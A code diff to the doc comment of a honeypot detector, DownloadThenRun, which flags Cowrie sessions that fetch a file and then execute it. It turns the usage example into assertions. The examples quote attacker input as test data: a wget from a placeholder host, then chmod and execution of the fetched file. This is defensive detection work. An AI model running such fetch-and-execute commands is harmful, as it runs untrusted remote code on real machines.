@@ -7,9 +7,11 @@
  *
  * Sessions live in a bounded LRU table: most of a scan storm's sessions never close.
  *
- *     const drops = new DownloadThenRun();
- *     drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "wget http://x/b" });  // false
- *     drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "chmod +x b; ./b" });  // true
+ * ```ts
+ * const drops = new DownloadThenRun();
+ * assert.equal(drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "wget http://x/b" }), false);
+ * assert.equal(drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "chmod +x b; ./b" }), true);
+ * ```
  */
 import type { CanonicalEvent } from "../domain/canonical-event";
 import { LruMap } from "../collections/lru-map";
